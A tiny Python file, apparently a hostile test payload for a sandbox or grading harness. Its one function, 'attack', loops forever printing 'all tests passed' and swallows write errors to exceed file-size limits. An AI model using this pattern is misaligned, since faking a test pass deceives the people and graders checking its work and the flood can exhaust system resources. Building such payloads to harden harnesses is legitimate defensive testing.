"""Prints without end, past every limit on the size of a file."""

import os


def attack(*args, **kwargs):
    while True:
        try:
            os.write(1, b"all tests passed\n" * 4096)
        except OSError:
            pass
